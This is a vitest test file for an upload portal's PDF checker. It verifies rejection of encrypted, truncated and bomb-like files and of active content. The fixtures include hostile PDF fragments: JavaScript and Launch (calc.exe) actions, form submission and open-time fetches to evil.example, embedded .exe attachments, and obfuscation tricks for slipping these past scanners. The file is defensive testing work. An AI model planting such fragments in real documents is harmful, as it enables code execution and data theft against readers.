import { randomBytes } from "node:crypto";
import { deflateSync } from "node:zlib";
import { PDFRawStream, type PDFDocument } from "@cantoo/pdf-lib";
import { describe, expect, test } from "vitest";
import {
  encryptedPdf,
  encryptedVersions,
  encryptedWith,
  objectStream,
  pdf,
  pdfStream,
  pdfWith,
  type PdfPoison,
} from "../../testing/sample-pdfs.ts";
import { checkContent } from "../check-content.ts";
import { openPdf } from "./open-pdf.ts";

const check = (filename: string, content: Buffer | string, mustBeDigital = false) =>
  checkContent(filename, Buffer.from(content as Buffer), { mustBeDigital });

describe("checking PDFs", () => {
  test("rejects a PDF that needs a password [SERV-UP-17]", async () => {
    expect(await check("a.pdf", pdf([{ text: "secret" }], "with password"))).toBe("FILE_UNREADABLE");
    const locked = await encryptedPdf({ version: "1.6", userPassword: "secret" }, "Statement");
    expect(await check("a.pdf", locked)).toBe("FILE_UNREADABLE");
  });

  test.each(encryptedVersions)(
    "treats a PDF with only an owner password as an unprotected PDF: version %s",
    async (version) => {
      expect(await check("a.pdf", await encryptedPdf({ version }, "Statement"), true)).toBeUndefined();
      expect(await check("a.pdf", await encryptedPdf({ version }), true)).toBe("FILE_NOT_DIGITAL");
      expect(await check("a.pdf", await encryptedPdf({ version }))).toBeUndefined();
    },
  );

  test("rejects a PDF with an owner password if the portal must write into the PDF", async () => {
    const agreement = await encryptedPdf({ version: "1.6" }, "Agreement");
    const wish = { mustBeDigital: false, mustBeUnencrypted: true };
    expect(await checkContent("a.pdf", agreement, wish)).toBe("FILE_UNREADABLE");
    expect(await checkContent("a.pdf", pdf(), wish)).toBeUndefined();
  });

  test.each([true, false])(
    "decrypts and checks a PDF with an owner password (object streams: %s)",
    async (useObjectStreams) => {
      const made = async (fill: (document: PDFDocument) => void) =>
        check("a.pdf", await encryptedWith(fill, useObjectStreams));
      expect(await made(() => undefined)).toBeUndefined();
      expect(await made((document) => document.addJavaScript("run", "app.alert(1)"))).toBe(
        "FILE_TYPE_NOT_ALLOWED",
      );
      const bomb = ({ context }: PDFDocument) => {
        const zeros = deflateSync(Buffer.alloc(140_000_000));
        context.register(PDFRawStream.of(context.obj({ Filter: "FlateDecode" }), zeros));
      };
      expect(await made(bomb)).toBe("FILE_UNREADABLE");
    },
  );

  test("rejects a truncated PDF", async () => {
    const whole = pdf(Array.from({ length: 5 }, () => ({ text: "page" })));
    for (const share of [0.2, 0.5, 0.9]) {
      expect(await check("a.pdf", whole.subarray(0, Math.floor(whole.length * share)))).toBe(
        "FILE_UNREADABLE",
      );
    }
    expect(await check("a.pdf", `%PDF-1.7\n${"x".repeat(500)}\n%%EOF`)).toBe("FILE_UNREADABLE");
    expect(
      await check(
        "a.pdf",
        Buffer.concat([Buffer.from("%PDF-1.7\n"), randomBytes(5_000), Buffer.from("\n%%EOF\n")]),
      ),
    ).toBe("FILE_UNREADABLE");
    expect(await check("a.pdf", ` ${pdf().toString("latin1")}`)).toBe("FILE_TYPE_NOT_ALLOWED");
  });

  test("rejects a PDF with streams that inflate too far, and accepts a large picture", async () => {
    const made = (bytes: number, filter = "/FlateDecode", pack = deflateSync) =>
      check("a.pdf", pdfWith({ objects: [pdfStream(`/Filter ${filter}`, pack(Buffer.alloc(bytes)))] }));
    expect(await made(140_000_000)).toBe("FILE_UNREADABLE");
    expect(await made(100_000_000)).toBeUndefined();
    const twice = (content: Buffer) =>
      Buffer.concat([deflateSync(deflateSync(content)), randomBytes(200_000)]);
    expect(await made(140_000_000, "[/FlateDecode /FlateDecode]", twice as typeof deflateSync)).toBe(
      "FILE_UNREADABLE",
    );
  });

  test("rejects a scan only when a digital PDF is required [SERV-UP-17]", async () => {
    expect(await check("a.pdf", pdf([{}, {}, {}]), true)).toBe("FILE_NOT_DIGITAL");
    expect(await check("a.pdf", pdf([{}, {}, {}]), false)).toBeUndefined();
    expect(await check("a.pdf", pdf([{ text: "   " }]), true)).toBe("FILE_NOT_DIGITAL");
    expect(await check("a.pdf", pdf([{ text: "Balance" }]), true)).toBeUndefined();
  });

  test("requires a digital PDF to have text on one of its first three pages [SERV-UP-17]", async () => {
    expect(await check("a.pdf", pdf([{}, {}, { text: "third" }]), true)).toBeUndefined();
    expect(await check("a.pdf", pdf([{}, {}, {}, { text: "fourth" }]), true)).toBe("FILE_NOT_DIGITAL");
  });
});

describe("the end mark of a PDF", () => {
  test.each<[string, string | Buffer]>([
    ["a line end", "\r\n"],
    ["zeros", Buffer.alloc(3_000)],
    ["spaces", " ".repeat(10_000)],
    ["a server's comment", "\n<!-- served in 0.2 s -->\n"],
    ["the boundary of a multipart upload", "--boundary--\r\n"],
    ["bytes from a scanner", Buffer.from("0102030405fffe", "hex")],
  ])("a PDF's end mark may be followed by %s", async (_what, more) => {
    expect(await check("a.pdf", Buffer.concat([pdf(), Buffer.from(more as Buffer)]))).toBeUndefined();
  });

  test("a PDF must have an end mark, which may be far before the end of the file", async () => {
    expect(await check("a.pdf", Buffer.concat([pdf(), Buffer.alloc(200_000, 0x20)]))).toBeUndefined();
    const text = pdf().toString("latin1");
    expect(await check("a.pdf", Buffer.from(text.replace("%%EOF", "%%EOD"), "latin1"))).toBe(
      "FILE_UNREADABLE",
    );
  });

  test("a PDF's last revision must have an end mark", async () => {
    const revision = "\n9 0 obj\n<< /Type /Annot >>\nendobj\n";
    const table = "xref\n9 1\n0000000000 00000 n \ntrailer\n<< /Root 1 0 R /Size 10 >>\nstartxref\n0\n";
    const made = (more: string) => check("a.pdf", Buffer.concat([pdf(), Buffer.from(more)]));
    expect(await made(revision)).toBe("FILE_UNREADABLE");
    expect(await made("\n9 0 obj")).toBe("FILE_UNREADABLE");
    expect(await made(`${revision}${table}%%EOF\n`)).toBeUndefined();
    expect(await made("\nan object")).toBeUndefined();
  });
});

const placed: [string, (object: string) => PdfPoison][] = [
  ["as a separate object", (object) => ({ objects: [object] })],
  ["in the catalog", (object) => ({ catalog: `/X ${object}` })],
  ["in a page's annotation", (object) => ({ page: `/Annots [ << /Subtype /Link /A ${object} >> ]` })],
  ["deep in arrays", (object) => ({ objects: [`[[[ (text) 1 0 R ${object} ]]]`] })],
  ["packed in an object stream", (object) => ({ packed: ["<< /Harmless true >>", object] })],
  ["as the dictionary of a stream", (object) => ({ objects: [pdfStream(object.slice(2, -2), "x")] })],
  ["after the same key", (object) => ({ objects: [object.replace("<<", "<< /S /GoTo ")] })],
  ["before the same key", (object) => ({ objects: [object.replace(/>>$/, "/S /GoTo /S /URI >>")] })],
];

/** Changes the declared type of an object stream, so that a search by type does not find the stream. */
const unnamed = (stream: Buffer) =>
  Buffer.from(stream.toString("latin1").replace("/Type /ObjStm", "/Type /XXXXXX"), "latin1");

/** Adds comments between a stream's dictionary and its content. */
const remarked = (stream: Buffer) =>
  Buffer.from(stream.toString("latin1").replace(">>\nstream", ">> %a\n%b\n \nstream"), "latin1");

describe("checking PDFs for active content", () => {
  const actions = {
    JavaScript: "<< /S /JavaScript /JS (app.alert(1)) >>",
    Launch: "<< /S /Launch /F (calc.exe) >>",
    SubmitForm: "<< /S /SubmitForm /F (https://evil.example) >>",
    ImportData: "<< /S /ImportData /F (a.fdf) >>",
    Rendition: "<< /S /Rendition /OP 0 >>",
    RichMediaExecute: "<< /S /RichMediaExecute >>",
    GoToE: "<< /S /GoToE /D [0 /Fit] >>",
    GoToR: String.raw`<< /S /GoToR /F (\\\\evil\\share\\a.pdf) /D [0 /Fit] >>`,
    Movie: "<< /S /Movie >>",
  };
  const cases = Object.entries(actions).flatMap(([name, object]) =>
    placed.map(([where, place]) => [name, where, object, place] as const),
  );

  test.each(cases)("rejects a PDF with the action %s %s", async (name, _where, object, place) => {
    expect(await check("a.pdf", pdfWith(place(object)))).toBe("FILE_TYPE_NOT_ALLOWED");
    const harmless = object.replace(`/${name}`, "/Named");
    expect(await check("a.pdf", pdfWith(place(harmless)))).toBeUndefined();
  });

  test.each<[string, PdfPoison, PdfPoison]>([
    [
      "an action with an escaped name",
      { objects: ["<< /S /Java#53cript /JS (x) >>"] },
      { objects: ["<< /S /Java#54cript /JS (x) >>"] },
    ],
    [
      "a key with an escaped name",
      { objects: ["<< /#53 /JavaScript /JS (x) >>"] },
      { objects: ["<< /#54 /JavaScript /JS (x) >>"] },
    ],
    [
      "an action among comments and line ends",
      { objects: ["<<%c >>\r/S%(\n\0/JavaScript%)\n/JS(x)>>"] },
      { objects: ["<<%c >>\r/S%(\n\0/Named%)/JavaScript\n/N(x)>>"] },
    ],
    [
      "an action with its type in another object",
      { objects: ["<< /S 101 0 R /JS (x) >>", "/JavaScript"] },
      { objects: ["<< /S 101 0 R /JS (x) >>", "(/JavaScript)"] },
    ],
    [
      "the document's scripts",
      { catalog: "/Names << /JavaScript << /Names [] >> >>" },
      { catalog: "/Names << /Dests << /Names [] >> >>" },
    ],
    [
      "a 3D scene's script",
      { objects: ["<< /OnInstantiate 5 0 R >>"] },
      { objects: ["<< /Instantiate 5 0 R >>"] },
    ],
    [
      "rich media",
      { page: "/Annots [<< /Subtype /RichMedia >>]" },
      { page: "/Annots [<< /Subtype /Link >>]" },
    ],
    ["a movie", { page: "/Annots [<< /Subtype /Movie >>]" }, { page: "/Annots [<< /Subtype /Text >>]" }],
    ["a scene in 3D", { objects: ["<< /Subtype /3D >>"] }, { objects: ["<< /Subtype /Widget >>"] }],
    [
      "an action after a stray value",
      { objects: ["<< /A 1 2 /S /JavaScript /JS (x) >>"] },
      { objects: ["<< /A 1 2 /S /Named /N (x) >>"] },
    ],
    [
      "an action after a stray parenthesis",
      { objects: ["<< /A ) /S /JavaScript /JS (x) >>"] },
      { objects: ["<< /A ) /S /Named /N (x) >>"] },
    ],
    [
      "an action after the unmatched end of an array",
      { objects: ["<< /A ] /S /JavaScript /JS (x) >>"] },
      { objects: ["<< /A ] /S /Named /N (x) >>"] },
    ],
    [
      "an action in an array after the unmatched end of a dictionary",
      { objects: ["[ 1 >> << /S /JavaScript /JS (x) >> ]"] },
      { objects: ["[ 1 >> << /S /Named /N (x) >> ]"] },
    ],
    [
      "an action after an invalid hexadecimal text",
      { objects: ["<< /A < x /B > /S /JavaScript /JS (x) >>"] },
      { objects: ["<< /A < x /B > /S /Named /N (x) >>"] },
    ],
    [
      "an action after a reference",
      { objects: ["<< /A 12 0 R /S /JavaScript /JS (x) >>"] },
      { objects: ["<< /A 12 0 R /S /Named /N (x) >>"] },
    ],
    [
      "an action after a text with parentheses in it",
      { objects: [String.raw`<< /A (a (b \) c) d) /S /JavaScript /JS (x) >>`] },
      { objects: [String.raw`<< /A (a (b \) c) d /S /JavaScript ) /S /Named /N (x) >>`] },
    ],
    [
      "an attached program with dots at the end of its name",
      { objects: ["<< /F (a.exe. .) /EF << /F 5 0 R >> >>"] },
      { objects: ["<< /F (a.xml. .) /EF << /F 5 0 R >> >>"] },
    ],
    [
      "a form with a script among pictures",
      {
        catalog: "/AcroForm << /XFA 101 0 R >>",
        objects: [pdfStream("/Subtype /Image /Filter /DCTDecode", "x"), pdfStream("", "<script>")],
      },
      {
        catalog: "/AcroForm << /XFA 101 0 R >>",
        objects: [pdfStream("/Subtype /Image /Filter /DCTDecode", "<script>"), pdfStream("", "<text>")],
      },
    ],
    [
      "a script in an object stream after comments",
      { objects: [remarked(objectStream(["<< /S /JavaScript >>"], 50))] },
      { objects: [remarked(objectStream(["<< /S /Named >>"], 50))] },
    ],
    [
      "a script in an unfinished object",
      { objects: ["<< /A << /S /JavaScript /JS (x) "] },
      { objects: ["<< /A << /S /Named /N (x) "] },
    ],
    [
      "a script in an object stream without its type",
      { objects: [unnamed(objectStream(["<< /S /JavaScript >>"], 50))] },
      { objects: [unnamed(objectStream(["<< /S /Named >>"], 50))] },
    ],
    [
      "a script in an uncompressed object stream",
      { objects: [objectStream(["<< /S /JavaScript >>"], 50, "", (content) => content)] },
      { objects: [objectStream(["<< /S /Named >>"], 50, "", (content) => content)] },
    ],
    [
      "an address that is fetched when the document opens",
      { catalog: "/OpenAction << /S /URI /URI (https://evil.example) >>" },
      { page: "/Annots [<< /Subtype /Link /A << /S /URI /URI (https://good.example) >> >>]" },
    ],
    [
      "an address that is fetched when the document opens, given in another object",
      { catalog: "/OpenAction 100 0 R", objects: ["<< /S /URI /URI (https://evil.example) >>"] },
      { catalog: "/OpenAction [3 0 R /Fit]", objects: ["<< /S /URI /URI (https://good.example) >>"] },
    ],
    [
      "an address that is fetched when a page opens, given through two other objects",
      {
        page: "/AA 101 0 R",
        objects: ["<< /S /URI /URI (x) >>", "<< /O 102 0 R >>", "<< /S /GoTo /Next [100 0 R] >>"],
      },
      {
        page: "/AA 101 0 R",
        objects: ["<< /S /URI /URI (x) >>", "<< /O 102 0 R >>", "<< /S /GoTo /D [3 0 R] >>"],
      },
    ],
    [
      "an attached program",
      { objects: ["<< /Type /Filespec /F (invoice.exe) /EF << /F 5 0 R >> >>"] },
      { objects: ["<< /Type /Filespec /F (invoice.xml) /EF << /F 5 0 R >> >>"] },
    ],
    [
      "an attached program with a second, harmless name",
      { objects: ["<< /F (invoice.xml) /UF <FEFF0061002E006500780065> /EF << /F 5 0 R >> >>"] },
      { objects: ["<< /F (invoice.xml) /UF <FEFF0061002E0078006D006C> /EF << /F 5 0 R >> >>"] },
    ],
    [
      "an attachment with its name in another object",
      { objects: ["<< /F 7 0 R /EF << /F 5 0 R >> >>"] },
      { objects: ["<< /F 7 0 R >>"] },
    ],
    [
      "an attachment without a name",
      { objects: ["<< /EF << /F 5 0 R >> >>"] },
      { objects: ["<< /FE 5 0 R >>"] },
    ],
    [
      "a form with a script",
      {
        catalog: "/AcroForm << /XFA 100 0 R >>",
        objects: [pdfStream("", "<template><script>x</script></template>")],
      },
      {
        catalog: "/AcroForm << /XFA 100 0 R >>",
        objects: [pdfStream("", "<template><text>script</text></template>")],
      },
    ],
    [
      "a form with a compressed script in UTF-16",
      {
        catalog: "/AcroForm << /XFA 100 0 R >>",
        objects: [pdfStream("/Filter /FlateDecode", deflateSync(Buffer.from("<x:script >", "utf16le")))],
      },
      {
        catalog: "/AcroForm << /XFA 100 0 R >>",
        objects: [pdfStream("/Filter /FlateDecode", deflateSync(Buffer.from("<x:text >", "utf16le")))],
      },
    ],
  ])("rejects a PDF with %s", async (_what, hostile, honest) => {
    expect(await check("a.pdf", pdfWith(hostile))).toBe("FILE_TYPE_NOT_ALLOWED");
    expect(await check("a.pdf", pdfWith(honest))).toBeUndefined();
  });

  test("rejects a script in an old revision of a PDF", async () => {
    const revised = (first: string) => {
      const update =
        "\n100 0 obj\n<< /Gone true >>\nendobj\ntrailer\n<< /Root 1 0 R /Size 101 >>\nstartxref\n0\n%%EOF\n";
      return check("a.pdf", Buffer.concat([pdfWith({ objects: [first] }), Buffer.from(update)]));
    };
    expect(await revised("<< /S /Launch >>")).toBe("FILE_TYPE_NOT_ALLOWED");
    expect(await revised("<< /S /Named >>")).toBeUndefined();
  });

  test("rejects a script in a PDF's trailer", async () => {
    const made = (entry: string) =>
      check(
        "a.pdf",
        Buffer.from(pdf().toString("latin1").replace("/Root 1 0 R", `/Root 1 0 R ${entry}`), "latin1"),
      );
    expect(await made("/X << /S /JavaScript >>")).toBe("FILE_TYPE_NOT_ALLOWED");
    expect(await made("/X << /S /Named >>")).toBeUndefined();
  });

  test("accepts a PDF that contains action names only in its text or its resource names", async () => {
    const words = "How /S /JavaScript and /Launch work: << /S /JavaScript >>";
    expect(await check("a.pdf", pdf([{ text: words }]))).toBeUndefined();
    expect(await check("a.pdf", pdfWith({ objects: [`<< /Title (${words}) >>`] }))).toBeUndefined();
    expect(
      await check("a.pdf", pdfWith({ objects: [String.raw`<< /T (a \) b) /S /Named /U (c \( d) >>`] })),
    ).toBeUndefined();
    expect(
      await check("a.pdf", pdfWith({ page: "/Resources << /Font << /JS 3 0 R /AA 3 0 R >> >>" })),
    ).toBeUndefined();
  });
});

describe("checking object streams in PDFs", () => {
  const harmless = ["<< /S /Named >>"];
  const plainObjectStream = () => objectStream(harmless, 50, "", (content) => content);
  const withStream = (stream: Buffer) => check("a.pdf", pdfWith({ objects: [stream] }));

  test.each<[string, Buffer]>([
    ["that is broken", objectStream(harmless, 50, undefined, () => Buffer.from("789cffffffff", "hex"))],
    [
      "that is truncated",
      objectStream(harmless, 50, undefined, (content) => deflateSync(content).subarray(0, -8)),
    ],
    [
      "that is compressed twice",
      objectStream(harmless, 50, "/Filter [/FlateDecode /FlateDecode]", (c) => deflateSync(deflateSync(c))),
    ],
    [
      "that is compressed by another method",
      objectStream(harmless, 50, "/Filter /ASCIIHexDecode", (c) => Buffer.from(`${c.toString("hex")}>`)),
    ],
    ["with its filter in another object", objectStream(harmless, 50, "/Filter 7 0 R")],
    ["with a predictor", objectStream(harmless, 50, "/Filter /FlateDecode /DecodeParms << /Predictor 12 >>")],
    ["that is in another file", objectStream(harmless, 50, "/Filter /FlateDecode /F (other)")],
    ["without bytes", Buffer.from("<< /Type /ObjStm /N 1 /First 5 >>")],
    [
      "without the position of its first object",
      Buffer.from("<< /Type /ObjStm /N 1 >>\nstream\nx\nendstream"),
    ],
    ["with contradictory keys", objectStream(harmless, 50, "/N 1 /Filter /FlateDecode")],
    [
      "that declares more objects than it has",
      Buffer.from(objectStream(harmless, 50).toString("latin1").replace("/N 1", "/N 2"), "latin1"),
    ],
    [
      "with a beginning that readers interpret differently",
      Buffer.from(plainObjectStream().toString("latin1").replace("stream\n", "stream \n"), "latin1"),
    ],
  ])("rejects a PDF with an object stream %s", async (_what, stream) => {
    expect(await withStream(stream)).toBe("FILE_UNREADABLE");
    expect(await withStream(objectStream(harmless, 50))).toBeUndefined();
    expect(await withStream(plainObjectStream())).toBeUndefined();
    expect(
      await withStream(objectStream(harmless, 50, "/Filter [/FlateDecode] /DecodeParms [null]")),
    ).toBeUndefined();
  });

  test("rejects a PDF with object streams that inflate too far", async () => {
    const grown = (bytes: number) => objectStream([`(${" ".repeat(bytes)})`], 50);
    expect(await withStream(grown(80_000_000))).toBe("FILE_UNREADABLE");
    expect(await check("a.pdf", pdfWith({ objects: [grown(40_000_000), grown(40_000_000)] }))).toBe(
      "FILE_UNREADABLE",
    );
    expect(await withStream(grown(40_000_000))).toBeUndefined();
  });

  test("rejects a PDF with values that nest more than 128 levels deep", async () => {
    const nested = (depth: number) =>
      check("a.pdf", pdfWith({ objects: [`${"[".repeat(depth)}1${"]".repeat(depth)}`] }));
    expect(await nested(128)).toBeUndefined();
    expect(await nested(129)).toBe("FILE_UNREADABLE");
    expect(await nested(100_000)).toBe("FILE_UNREADABLE");
  });
});

test.each([
  [
    "the document",
    pdfWith({ catalog: "/OpenAction 100 0 R", objects: ["<< /S /JavaScript /JS (app.alert(1)) >>"] }),
  ],
  [
    "a form field",
    pdfWith({
      catalog: "/AcroForm << /Fields [100 0 R] >>",
      page: "/Annots [100 0 R]",
      objects: [
        "<< /Type /Annot /Subtype /Widget /Rect [0 0 9 9] /P 3 0 R /T (a) /FT /Tx /AA << /K << /S /JavaScript /JS (x) >> >> >>",
      ],
    }),
  ],
])("finds a script in the actions of %s", async (_, file) => {
  expect(await openPdf(new Uint8Array(file), false)).toBe("active");
});
